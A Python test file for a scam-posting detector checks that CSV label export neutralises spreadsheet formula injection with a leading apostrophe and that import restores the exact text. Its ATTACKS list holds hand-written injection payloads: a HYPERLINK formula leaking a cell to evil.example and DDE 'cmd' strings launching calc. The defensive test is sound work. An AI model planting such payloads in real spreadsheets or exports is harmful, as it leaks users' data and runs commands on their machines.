"""Issue 24 item 4: `labels export` writes spreadsheet-safe CSV (a cell a spreadsheet would
run as a formula gets OWASP's apostrophe), and `labels import` strips it again, so export ->
import gives the exact text: the same content hashes and campaign fingerprints. The postings
are hand-written attack strings around real-looking text (labelled as such)."""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import select

from detector.cli import main
from detector.labels.decisions import parse_decision
from detector.labels.store import LabelStore, campaign_fingerprints

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your offer")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "'=already an apostrophe",
    "''+two apostrophes",
    "'plain apostrophe text",
    "-5000",
]


def hostile_store(path: Path) -> LabelStore:
    store = LabelStore(str(path))
    batch = []
    for i, attack in enumerate(ATTACKS):
        posting = {"id": attack if i % 2 else f"p{i}", "title": attack,
                   "description": f"{attack} Data entry from home, pay a $50 kit fee.",
                   "salary": attack, "has_company_logo": bool(i % 2)}
        batch.append(parse_decision({"posting": posting, "label": "scam"}, "moderator"))
    store.record(batch)
    return store


def fingerprints(store: LabelStore) -> dict[str, bytes]:
    with store.engine.connect() as conn:
        rows = conn.execute(select(campaign_fingerprints.c.posting_hash,
                                   campaign_fingerprints.c.signature)).all()
    return {row.posting_hash: bytes(row.signature) for row in rows}


def test_csv_export_is_spreadsheet_safe_and_import_round_trips_exactly(tmp_path: Path) -> None:
    before = hostile_store(tmp_path / "before.sqlite")
    exported = tmp_path / "labels.csv"
    assert main(["labels", "--db", str(tmp_path / "before.sqlite"), "export",
                 str(exported)]) == 0
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    titles = {row["title"] for row in rows}
    for attack in ATTACKS[:8]:  # formulas (and apostrophes before one) get one more "'"
        assert "'" + attack in titles, attack
    assert "'plain apostrophe text" in titles and "-5000" in titles  # left alone
    assert not any(cell and cell[0] in "=+-@\t\r" and cell != "-5000"
                   for row in rows for cell in row.values())

    assert main(["labels", "--db", str(tmp_path / "after.sqlite"), "import",
                 str(exported)]) == 0
    after = LabelStore(str(tmp_path / "after.sqlite"))
    old = {item.hash: item for item in before.labeled()}
    new = {item.hash: item for item in after.labeled()}
    assert set(new) == set(old) and len(new) == len(ATTACKS)  # same content hashes
    for digest, item in new.items():
        assert item.content == old[digest].content
    assert sorted(i.external_id or "" for i in new.values()) == sorted(
        i.external_id or "" for i in old.values())
    assert fingerprints(after) == fingerprints(before)
